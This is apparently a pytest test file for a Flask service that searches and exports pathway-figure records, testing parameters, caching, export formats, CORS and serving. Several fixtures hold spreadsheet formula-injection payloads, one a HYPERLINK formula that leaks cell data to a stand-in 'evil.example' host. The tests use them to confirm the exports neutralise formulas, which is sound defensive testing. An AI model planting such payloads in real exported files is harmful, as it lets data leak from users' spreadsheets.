"""The HTTP layer: parameter parsing and export formats on their own, then the real app
over an index built from the bundled sample records."""

from __future__ import annotations

import csv
import dataclasses
import gc
import io
import json
import os
import shutil
import urllib.error
import urllib.request
import weakref
from collections.abc import Callable, Iterator
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from werkzeug.datastructures import MultiDict
from werkzeug.test import EnvironBuilder

import indexer
from indexer import pipeline
from indexer.index.records import pack
from indexer.index.schema import SCHEMA_VERSION
from indexer.record import Figure, Gene, Term
from server.search import service as service_module
from server.search.hits import hit
from server.search.models import DEFAULT_FACETS, InvalidParameter, SearchRequest, normalize
from server.search.service import SearchService
from server.web import MAX_BODY_BYTES, create_app, export, params, serving
from tests.conftest import SAMPLE_RECORDS, STAT3_RECORD, served_over_waitress

# -- parameters, without HTTP -----------------------------------------------------------


def test_defaults_from_no_parameters():
    assert params.search_request({}) == SearchRequest()


def test_search_request_from_query_args():
    args = MultiDict(
        [
            ("q", ' "JAK-STAT" signaling '),
            ("gene", "STAT3"),
            ("gene", "3716"),
            ("gene", " "),
            ("gene", "STAT3"),
            ("organism", "Homo sapiens"),
            ("year_min", "2010"),
            ("year_max", "2020"),
            ("gene_match", "all"),
            ("min_genes", "2"),
            ("sort", "-year"),
            ("page", "3"),
            ("per_page", "50"),
            ("facets", "organism,chemical"),
            ("facets", "year"),
            ("facet_size", "25"),
        ]
    )
    raw = params.search_request(params.from_args(args))
    assert raw.year_min == "2010"  # as given: the service checks and converts it
    assert normalize(raw) == SearchRequest(
        q='"JAK-STAT" signaling',
        filters={"gene": ["STAT3", "3716"], "organism": ["Homo sapiens"]},
        year_min=2010,
        year_max=2020,
        gene_match="all",
        min_genes=2,
        sort="-year",
        page=3,
        per_page=50,
        facets=("organism", "chemical", "year"),
        facet_size=25,
    )


def test_json_body_reads_like_query_args():
    body = json.dumps(
        {"gene": ["STAT3", 3716], "organism": "Homo sapiens", "year_min": 2010, "q": None}
    ).encode()
    from_body = params.from_json_body(body)
    assert from_body == {
        "gene": ["STAT3", "3716"],
        "organism": ["Homo sapiens"],
        "year_min": ["2010"],
        "q": [],
    }
    assert normalize(params.search_request(from_body)) == SearchRequest(
        filters={"gene": ["STAT3", "3716"], "organism": ["Homo sapiens"]}, year_min=2010
    )


@pytest.mark.parametrize(("given", "facets"), [([""], ()), (["gene"], ("gene",)), ([], ())])
def test_facets_given_empty_means_none(given: list[str], facets: tuple[str, ...]):
    assert params.search_request({"facets": given}).facets == facets
    assert params.search_request({}).facets == DEFAULT_FACETS


def test_cache_busters_are_ignored():
    params.check_known({"_": ["1700000000"], "q": ["x"]}, params.SEARCH_PARAMS)
    with pytest.raises(InvalidParameter) as caught:
        params.check_known({"sort_by": ["year"]}, params.SEARCH_PARAMS)
    assert caught.value.parameter == "sort_by"
    assert "(did you mean 'sort'?)" in caught.value.message


# -- the request: immutable, and its own cache key ---------------------------------------

# 10 sample figures; no figure holds both words, so match=all changes the answer
CACHE_BASE = SearchRequest(q="kinase cascade", filters={"gene": ["STAT3", "JAK2", "IL6"]})
# One other value per field of SearchRequest, each changing the answer to CACHE_BASE.
OTHER_VALUES: dict[str, Any] = {
    "q": "signaling",
    "filters": {"gene": ["STAT3", "JAK2", "IL6"], "organism": ["Mus musculus"]},
    "year_min": 2015,
    "year_max": 2015,
    "gene_match": "all",
    "min_genes": 2,
    "match": "all",
    "sort": "year",
    "page": 2,
    "per_page": 5,
    "facets": ("chemical",),
    "facet_size": 3,
}


def test_request_is_immutable_and_hashable():
    request = SearchRequest(filters={"gene": ["STAT3"]}, facets=["gene"])
    assert request.filters == {"gene": ("STAT3",)} and request.facets == ("gene",)
    assert hash(request) == hash(SearchRequest(filters={"gene": ("STAT3",)}, facets=("gene",)))
    with pytest.raises(dataclasses.FrozenInstanceError):
        request.page = 2  # type: ignore[misc]
    with pytest.raises(TypeError):
        request.filters["gene"] = ("JAK2",)  # type: ignore[index]


def test_every_request_field_is_part_of_the_cache_key(sample_index: Path):
    names = [field.name for field in dataclasses.fields(SearchRequest)]
    assert sorted(OTHER_VALUES) == sorted(names), "give a new field a value here"
    cached = SearchService(sample_index)
    base_answer = cached.search(CACHE_BASE)
    for name in names:
        changed = dataclasses.replace(CACHE_BASE, **{name: OTHER_VALUES[name]})
        fresh = SearchService(sample_index).search(changed)  # nothing cached yet
        assert fresh != base_answer, f"{name}: pick a value that changes the answer"
        assert cached.search(changed) == fresh, f"{name} is left out of the cache key"


# -- export formats, without HTTP --------------------------------------------------------

# Hits made by the service's own hit builder, from stored records with awkward values.
AWKWARD_HIT = hit(
    pack(
        Figure(
            figid="PMC1__fig1",
            figtitle='IL-6, "STAT3"\tand\nβ-catenin',
            papertitle="A paper; with a semicolon",
            reftext="Doe J, et al.",
            year=2015,
            pmcid="PMC1",
            organisms=["Homo sapiens", "Mus musculus"],
            genes=[Gene("IL6", "3569", ["IL-6"]), Gene("STAT3"), Gene("JAK2", "3717")],
            diseases=[Term("Neoplasms", "D009369")],
        ).as_dict()
    ),
    "",
    None,
)
NO_GENES_HIT = hit(pack(Figure(figid="PMC2__fig2", figtitle="No genes").as_dict()), "", None)


@pytest.mark.parametrize(("fmt", "dialect"), [("csv", csv.excel), ("tsv", csv.excel_tab)])
def test_delimited_export_round_trips(fmt: str, dialect: type[csv.Dialect]):
    text = "".join(export.render(fmt, [AWKWARD_HIT, NO_GENES_HIT]))
    rows = list(csv.DictReader(io.StringIO(text, newline=""), dialect=dialect))
    assert [list(row) for row in rows] == [list(export.COLUMNS)] * 2
    first = rows[0]
    assert first["title"] == AWKWARD_HIT["title"]  # quoted, so it survives intact
    assert first["organisms"] == "Homo sapiens|Mus musculus"
    assert (first["genes"], first["entrez"]) == ("IL6|STAT3|JAK2", "3569||3717")
    assert (first["diseases"], first["chemicals"], first["doi"]) == ("Neoplasms", "", "")
    assert first["year"] == "2015"
    assert first["article_url"] == "https://www.ncbi.nlm.nih.gov/pmc/articles/PMC1/"
    assert rows[1]["figid"] == "PMC2__fig2"


def test_delimited_export_of_nothing_has_a_header():
    assert "".join(export.render("csv", [])) == ",".join(export.COLUMNS) + "\r\n"


def test_gmt_export_one_gene_set_per_figure_with_genes():
    text = "".join(export.render("gmt", [AWKWARD_HIT, NO_GENES_HIT]))
    assert text == 'PMC1__fig1\tIL-6, "STAT3" and β-catenin\tIL6\tSTAT3\tJAK2\n'


def test_json_export_is_one_array():
    text = "".join(export.render("json", [AWKWARD_HIT, NO_GENES_HIT]))
    assert json.loads(text) == [AWKWARD_HIT, NO_GENES_HIT]
    assert "".join(export.render("json", [])) == "[]\n"


# Cells a spreadsheet would run as formulas (OWASP "CSV injection"), on every text field.
FORMULA_HIT = hit(
    pack(
        Figure(
            figid="PMC3__fig3",
            figtitle='=HYPERLINK("http://evil.example/?leak="&A1,"click")',
            papertitle="+1+1",
            reftext="-2+3",
            journal="@SUM(A1:A9)",
            genes=[Gene("=1+1"), Gene("STAT3")],
            diseases=[Term("\t=1+1")],
            chemicals=[Term("\r=1+1")],
        ).as_dict()
    ),
    "",
    None,
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(("fmt", "dialect"), [("csv", csv.excel), ("tsv", csv.excel_tab)])
def test_delimited_export_neutralises_formulas(fmt: str, dialect: type[csv.Dialect]):
    text = "".join(export.render(fmt, [FORMULA_HIT, AWKWARD_HIT]))
    rows = list(csv.DictReader(io.StringIO(text, newline=""), dialect=dialect))
    first = rows[0]
    assert first["title"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    assert (first["paper_title"], first["reference"]) == ("'+1+1", "'-2+3")
    assert (first["journal"], first["genes"]) == ("'@SUM(A1:A9)", "'=1+1|STAT3")
    assert (first["diseases"], first["chemicals"]) == ("'\t=1+1", "'\r=1+1")
    for row in rows:
        assert not [cell for cell in row.values() if cell.startswith(FORMULA_STARTS)]
    assert rows[1]["title"] == AWKWARD_HIT["title"]  # harmless text stays exact


def test_gmt_export_neutralises_formulas_but_keeps_real_symbols_exact():
    text = "".join(export.render("gmt", [FORMULA_HIT, AWKWARD_HIT]))
    hostile, awkward = (line.split("\t") for line in text.splitlines())
    assert hostile == [
        "PMC3__fig3",
        '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        "'=1+1",
        "STAT3",
    ]
    assert awkward[2:] == ["IL6", "STAT3", "JAK2"]


# -- the app over a real index -----------------------------------------------------------


@pytest.fixture(scope="module")
def app(sample_index: Path) -> Flask:
    return create_app(sample_index, {"TESTING": True})


@pytest.fixture
def client(app: Flask) -> FlaskClient:
    return app.test_client()


def test_every_request_leaves_the_word_memos_within_their_bound(
    app: Flask, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The analysis memos (stems, Greek folding, name keys) are sized for a build; the
    app forgets them after any request that took them past its bound (a search's words,
    a gene list's names, a gene page's alias), and answers as before. Unbounded, never-seen
    words filled them for good: a client sending gene lists alone never searched."""
    from indexer import analysis
    from server.search import service as service_module

    words = ["kinase", "apoptosis", "insulin", "signaling", "receptor", "glucose", "hypoxia"]
    names = "\n".join(f"NOTAGENE{i}" for i in range(150))
    requests = [
        *(("GET", f"/api/search?q={a}+{b}", None) for a, b in pairwise(words)),
        ("POST", "/api/genes", {"genes": names}),
        ("GET", "/api/genes/STAT3?per_page=3", None),
        ("GET", "/api/search?q=ERK1/2+QZX7/9+STAT3/5", None),  # names printed in shorthand
        ("POST", "/api/genes", {"genes": names.replace("NOTAGENE", "NOGENE")}),
    ]

    def answers(client: FlaskClient, check: Callable[[], None]) -> list[Any]:
        out = []
        for method, path, body in requests:
            out.append(client.open(path, method=method, json=body).get_json())
            check()
        return out

    analysis.clear_word_memos()
    unbounded = create_app(app.config["PFOCR_INDEX"], {"TESTING": True})
    grown: list[int] = []
    expected = answers(unbounded.test_client(), lambda: grown.append(analysis.word_memo_entries()))
    assert grown[-1] > 300 and grown[-1] - grown[-2] > 100  # a gene list alone adds plenty

    bound = 100
    monkeypatch.setattr(service_module, "WORD_MEMO_ENTRIES", bound)
    analysis.clear_word_memos()
    bounded = answers(app.test_client(), lambda: _at_most(analysis.word_memo_entries(), bound))
    assert bounded == expected


@pytest.mark.parametrize(
    "path",
    [
        "/api/search?q=insulin+signaling",
        "/?q=insulin+signaling",
        "/api/search?q=insulin&format=csv",  # streamed
        "/genes/STAT3",
        "/api/suggest?q=st",
        "/api/nothing-here",
    ],
)
def test_an_answer_is_freed_once_sent_without_the_cycle_collector(app: Flask, path: str) -> None:
    """Once the WSGI server has sent an answer and closed it, reference counting frees it:
    nothing of ours holds it in a reference cycle. In one, every answer's body waited
    for the cycle collector, which a worker runs seldom (GC_YOUNG_THRESHOLD): under load
    a worker held 14-24 MB of answers already sent."""
    fresh = create_app(app.config["PFOCR_INDEX"], {"TESTING": True})
    answers: list[weakref.ref[Any]] = []

    @fresh.after_request
    def note(response: Any) -> Any:  # registered last, so run first: the same object
        answers.append(weakref.ref(response))
        return response

    serving.warm_up(fresh)  # as a worker does before its first request
    answers.clear()
    gc.collect()
    gc.disable()
    try:
        body = _served_like_gunicorn(fresh, path)
        assert body and len(answers) == 1
        assert answers[0]() is None
    finally:
        gc.enable()


def _served_like_gunicorn(app: Flask, path: str) -> bytes:
    """The answer's bytes, asked as a WSGI server asks: called, read whole, closed."""
    environ = EnvironBuilder(path=path).get_environ()
    answer = app(environ, lambda status, headers, exc_info=None: None)
    try:
        return b"".join(answer)
    finally:
        answer.close()


def _at_most(value: int, bound: int) -> None:
    assert value <= bound


def figids(hits: list[dict[str, Any]]) -> list[str]:
    return [hit["figid"] for hit in hits]


def test_app_holds_the_service(app: Flask, sample_index: Path):
    from server.search.service import SearchService

    assert isinstance(app.extensions["pfocr"], SearchService)
    assert app.config["PFOCR_INDEX"] == str(sample_index)


def test_config_from_environment(monkeypatch: pytest.MonkeyPatch, sample_index: Path):
    monkeypatch.setenv("PFOCR_INDEX", str(sample_index))
    monkeypatch.setenv("PFOCR_CORS_ORIGINS", "https://a.example, https://b.example")
    monkeypatch.setenv("PFOCR_EXPORT_MAX", "500")
    config = create_app().config
    assert config["PFOCR_INDEX"] == str(sample_index)
    assert config["PFOCR_CORS_ORIGINS"] == ["https://a.example", "https://b.example"]
    assert config["PFOCR_EXPORT_MAX"] == 500
    assert create_app("elsewhere").config["PFOCR_INDEX"] == "elsewhere"  # explicit wins
    monkeypatch.setenv("PFOCR_EXPORT_MAX", "lots")
    with pytest.raises(ValueError, match="PFOCR_EXPORT_MAX must be a whole number"):
        create_app()


@pytest.mark.parametrize(
    ("given", "origins"),
    [("*", "*"), ("", "*"), ("https://a.example", ["https://a.example"]), (["x"], ["x"])],
)
def test_cors_origins_setting(sample_index: Path, given: Any, origins: Any):
    app = create_app(sample_index, {"PFOCR_CORS_ORIGINS": given})
    assert app.config["PFOCR_CORS_ORIGINS"] == origins


def test_browse_everything(client: FlaskClient):
    response = client.get("/api/search")
    assert response.status_code == 200
    result = response.get_json()
    assert set(result) >= {"total", "page", "per_page", "pages", "query", "hits", "facets"}
    assert result["version"] == client.get("/api/status").get_json()["version"]
    assert (result["total"], result["page"], result["per_page"]) == (214, 1, 20)
    assert len(result["hits"]) == 20
    assert set(result["facets"]) == set(DEFAULT_FACETS)


def test_pages_walk_all_results(client: FlaskClient):
    seen: list[str] = []
    for page in range(1, 4):
        result = client.get(f"/api/search?per_page=100&page={page}&facets=").get_json()
        seen += figids(result["hits"])
    assert len(seen) == len(set(seen)) == 214


def test_gene_filter_finds_the_stat3_figure(client: FlaskClient):
    result = client.get("/api/search?gene=STAT3&facets=").get_json()
    assert STAT3_RECORD in figids(result["hits"])
    assert result["facets"] == {}


def test_post_body_answers_like_get(client: FlaskClient):
    got = client.get("/api/search?gene=STAT3&gene=JAK2&sort=year").get_json()
    posted = client.post("/api/search", json={"gene": ["STAT3", "JAK2"], "sort": "year"})
    assert posted.status_code == 200
    assert posted.get_json() == got


def test_post_body_without_json_content_type(client: FlaskClient):
    # What `curl -d '{...}'` sends: a form content type around a JSON body.
    response = client.post(
        "/api/search",
        data='{"gene": ["STAT3"]}',
        content_type="application/x-www-form-urlencoded",
    )
    assert response.status_code == 200
    assert STAT3_RECORD in figids(response.get_json()["hits"])


def test_post_long_gene_list_with_query_string_format(client: FlaskClient):
    genes = ["STAT3", *(f"NOTAGENE{i}" for i in range(999))]
    response = client.post("/api/search?format=gmt", json={"gene": genes})
    assert response.status_code == 200
    lines = response.get_data(as_text=True).splitlines()
    assert STAT3_RECORD in [line.split("\t")[0] for line in lines]


def test_figure(client: FlaskClient):
    response = client.get(f"/api/figures/{STAT3_RECORD}")
    assert response.status_code == 200
    assert response.get_json()["figid"] == STAT3_RECORD


def test_gene_lookup(client: FlaskClient):
    response = client.get("/api/genes/STAT3?per_page=5")
    assert response.status_code == 200
    result = response.get_json()
    assert (result["symbol"], result["entrez"], result["per_page"]) == ("STAT3", "6774", 5)
    assert STAT3_RECORD in all_figids(client, "gene=STAT3")


def test_gene_lookup_of_an_alias_with_a_slash(client: FlaskClient):
    result = client.get("/api/genes/P%2FCAF?facets=").get_json()
    assert (result["symbol"], result["matched_by"]) == ("KAT2B", "alias")


def test_suggest(client: FlaskClient):
    result = client.get("/api/suggest?q=STAT&limit=5").get_json()
    assert result["q"] == "STAT"
    assert 0 < len(result["suggestions"]) <= 5


def test_status(client: FlaskClient):
    result = client.get("/api/status").get_json()
    assert result["server_version"] == indexer.__version__
    assert (result["documents"], result["schema_version"]) == (214, SCHEMA_VERSION)
    assert (result["status"], result["load_error"]) == ("ok", None)


def test_healthz(client: FlaskClient):
    response = client.get("/healthz")
    assert response.status_code == 200
    version = client.get("/api/status").get_json()["version"]
    assert response.get_json() == {
        "status": "ok",
        "index_version": version,
        "load_error": None,
        "worker_pid": os.getpid(),
    }


# -- exports -------------------------------------------------------------------------------


def all_figids(client: FlaskClient, query: str) -> list[str]:
    result = client.get(f"/api/search?{query}&per_page=100&facets=").get_json()
    assert result["total"] <= 100
    return figids(result["hits"])


@pytest.mark.parametrize(
    ("fmt", "content_type"),
    [
        ("csv", "text/csv; charset=utf-8"),
        ("tsv", "text/tab-separated-values; charset=utf-8"),
    ],
)
def test_delimited_export_of_a_search(client: FlaskClient, fmt: str, content_type: str):
    expected = all_figids(client, "organism=Mus musculus&sort=year")
    response = client.get(f"/api/search?organism=Mus musculus&sort=year&format={fmt}")
    assert response.status_code == 200
    assert response.is_streamed
    assert response.headers["Content-Type"] == content_type
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="pfocr-figures.{fmt}"'
    )
    assert response.headers["X-Total-Count"] == str(len(expected))
    dialect = csv.excel if fmt == "csv" else csv.excel_tab
    text = response.get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text, newline=""), dialect=dialect))
    assert [row["figid"] for row in rows] == expected


@pytest.mark.parametrize(("fmt", "snippets"), [("csv", 0), ("tsv", 0), ("gmt", 0), ("json", 1)])
def test_an_export_makes_snippets_only_for_a_format_that_holds_them(
    client: FlaskClient, monkeypatch: pytest.MonkeyPatch, fmt: str, snippets: int
):
    """Snippets were made for every row of a CSV export and thrown away: a third of its
    time for "signaling pathway inhibitor" at 100k (7,421 rows: 3.1 s against 2.1)."""
    made = []

    def counted(*args: Any) -> str:
        made.append(args)
        return real_snippet(*args)

    real_snippet = service_module.snippet
    monkeypatch.setattr(service_module, "snippet", counted)
    response = client.get(f"/api/search?q=signaling&format={fmt}")
    assert response.status_code == 200
    body = response.get_data(as_text=True)
    total = int(response.headers["X-Total-Count"])
    assert total > 1
    assert len(made) == snippets * total
    if fmt == "json":
        assert all(hit["snippet"] for hit in json.loads(body))


def test_json_export_matches_the_pages(client: FlaskClient):
    expected = client.get("/api/search?gene=STAT3&per_page=100&facets=").get_json()["hits"]
    exported = client.get("/api/search?gene=STAT3&format=json").get_json()
    assert figids(exported) == figids(expected)


def test_gmt_export(client: FlaskClient):
    response = client.get("/api/search?gene=STAT3&format=gmt")
    assert response.status_code == 200
    sets = [line.split("\t") for line in response.get_data(as_text=True).splitlines()]
    stat3 = next(s for s in sets if s[0] == STAT3_RECORD)
    assert "STAT3" in stat3[2:]
    assert all(len(s) >= 3 and all(field.strip() for field in s) for s in sets)


@pytest.fixture(scope="module")
def formula_client(tmp_path_factory: pytest.TempPathFactory) -> FlaskClient:
    """The app over one real record whose texts were made to start spreadsheet formulas."""
    records = tmp_path_factory.mktemp("formula_records")
    text = (SAMPLE_RECORDS / f"{STAT3_RECORD}.md").read_text(encoding="utf-8")
    hostile = {
        "figtitle: Domain structure and signaling pathway of STAT3": 'figtitle: "\\t=1+1"',
        "reftext: Sailan Zou, et al. Mol Cancer. 2020;19:145.": (
            'reftext: \'=HYPERLINK("http://evil.example/?leak="&A1,"x")\'\n'
            'journal_title: "@SUM(A1)"'
        ),
        # Without an alias, a GMT description is the title alone: it starts the cell.
        "figid_alias: PMC7513516__F1": "figid_alias: ''",
    }
    for line, replacement in hostile.items():
        assert line in text
        text = text.replace(line, replacement)
    (records / f"{STAT3_RECORD}.md").write_text(text, encoding="utf-8")
    root = tmp_path_factory.mktemp("formula_index")
    report = pipeline.build([records], root, workers=1)
    assert report.figures_rejected == 0, report.rejected
    return create_app(root, {"TESTING": True}).test_client()


@pytest.mark.parametrize(("fmt", "dialect"), [("csv", csv.excel), ("tsv", csv.excel_tab)])
def test_exported_record_cannot_start_a_formula(
    formula_client: FlaskClient, fmt: str, dialect: type[csv.Dialect]
):
    text = formula_client.get(f"/api/search?format={fmt}").get_data(as_text=True)
    (row,) = csv.DictReader(io.StringIO(text, newline=""), dialect=dialect)
    # The indexer strips the leading tab; the check is on the text as exported.
    assert row["title"] == "'=1+1"
    assert row["reference"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"x")'
    assert row["journal"] == "'@SUM(A1)"
    gmt = formula_client.get("/api/search?format=gmt").get_data(as_text=True)
    assert gmt.split("\t")[1] == "'=1+1"


# -- caching and CORS ------------------------------------------------------------------------


def test_conditional_get(client: FlaskClient):
    first = client.get("/api/search?q=kinase")
    etag = first.headers["ETag"]
    assert first.headers["Cache-Control"] == "no-cache"
    again = client.get("/api/search?q=kinase", headers={"If-None-Match": etag})
    assert again.status_code == 304
    assert again.data == b""
    assert again.headers["ETag"] == etag
    assert client.head("/api/search?q=kinase").headers["ETag"] == etag
    other = client.get("/api/search?q=receptor", headers={"If-None-Match": etag})
    assert other.status_code == 200
    assert other.headers["ETag"] != etag


def test_rebuilt_index_changes_the_etag(tmp_path: Path):
    records = tmp_path / "records"
    shutil.copytree(SAMPLE_RECORDS, records)
    root = tmp_path / "index"
    pipeline.build([records], root, workers=1)
    client = create_app(root, {"TESTING": True}).test_client()
    before = client.get("/api/search?gene=STAT3")
    (records / f"{STAT3_RECORD}.md").unlink()
    pipeline.build([records], root, workers=1)
    after = client.get("/api/search?gene=STAT3", headers={"If-None-Match": before.headers["ETag"]})
    assert after.status_code == 200
    assert STAT3_RECORD in figids(before.get_json()["hits"])
    assert STAT3_RECORD not in figids(after.get_json()["hits"])


def test_cors_any_origin_by_default(client: FlaskClient):
    response = client.get("/api/status", headers={"Origin": "https://elsewhere.example"})
    assert response.headers["Access-Control-Allow-Origin"] == "*"
    assert "ETag" in response.headers["Access-Control-Expose-Headers"]


def test_cors_preflight(client: FlaskClient):
    response = client.options(
        "/api/search",
        headers={
            "Origin": "https://elsewhere.example",
            "Access-Control-Request-Method": "POST",
            "Access-Control-Request-Headers": "Content-Type",
        },
    )
    assert response.status_code == 200
    assert response.headers["Access-Control-Allow-Origin"] == "*"
    assert "POST" in response.headers["Access-Control-Allow-Methods"]
    assert "content-type" in response.headers["Access-Control-Allow-Headers"].lower()


def test_cors_configured_origins(sample_index: Path):
    app = create_app(sample_index, {"TESTING": True, "PFOCR_CORS_ORIGINS": ["https://ok.example"]})
    client = app.test_client()
    allowed = client.get("/api/status", headers={"Origin": "https://ok.example"})
    assert allowed.headers["Access-Control-Allow-Origin"] == "https://ok.example"
    refused = client.get("/api/status", headers={"Origin": "https://evil.example"})
    assert "Access-Control-Allow-Origin" not in refused.headers


def test_cors_headers_on_errors(client: FlaskClient):
    response = client.get("/api/search?per_page=500", headers={"Origin": "https://x.example"})
    assert response.status_code == 400
    assert response.headers["Access-Control-Allow-Origin"] == "*"


# -- serving -----------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def served(sample_index: Path) -> Iterator[str]:
    """The base URL of the app served by waitress on a free local port."""
    with served_over_waitress(sample_index) as url:
        yield url


def fetch(url: str, data: bytes | None = None) -> tuple[int, dict[str, Any]]:
    try:
        with urllib.request.urlopen(url, data=data, timeout=10) as reply:
            return reply.status, json.load(reply)
    except urllib.error.HTTPError as error:
        with error:
            return error.code, json.load(error)


def test_waitress_serves_the_app(served: str):
    assert fetch(f"{served}/healthz")[0] == 200
    status, body = fetch(f"{served}/api/search", data=b'{"gene": ["STAT3"]}')
    assert status == 200
    assert STAT3_RECORD in figids(body["hits"])


@pytest.mark.parametrize(
    ("path", "data", "status"),
    [
        ("/api/search?per_page=500", None, 400),
        ("/api/figures/PMC0__nothing", None, 404),
        ("/api/search", b"x" * (MAX_BODY_BYTES + 1), 413),
        ("/api/search", b"[" * 100_000, 400),  # parsed in one of waitress's worker threads
        ("/api/search", b'{"q": "\\ud800"}', 400),
    ],
)
def test_waitress_answers_errors_in_the_error_shape(
    served: str, path: str, data: bytes | None, status: int
):
    got, body = fetch(served + path, data)
    assert got == status
    assert body["error"]["status"] == status


def test_metrics_count_cache_lookups_and_entries(sample_index: Path) -> None:
    """/metrics says what the caches buy: the second asking of a search is an answer
    cache hit; the same words on another page reuse the match."""
    client = create_app(sample_index, {"TESTING": True}).test_client()
    for page in (1, 1, 2):
        assert client.get(f"/api/search?q=kinase&page={page}").status_code == 200
    metrics = client.get("/metrics").get_data(as_text=True)
    counted = {
        line.rsplit(" ", 1)[0]: float(line.rsplit(" ", 1)[1])
        for line in metrics.splitlines()
        if line.startswith(("pfocr_cache_lookups_total{", "pfocr_cache_entries{"))
    }
    assert counted['pfocr_cache_lookups_total{cache="answers",result="hit"}'] == 1
    assert counted['pfocr_cache_lookups_total{cache="answers",result="miss"}'] == 2
    assert counted['pfocr_cache_lookups_total{cache="matches",result="hit"}'] >= 1
    assert counted['pfocr_cache_entries{cache="answers"}'] == 2
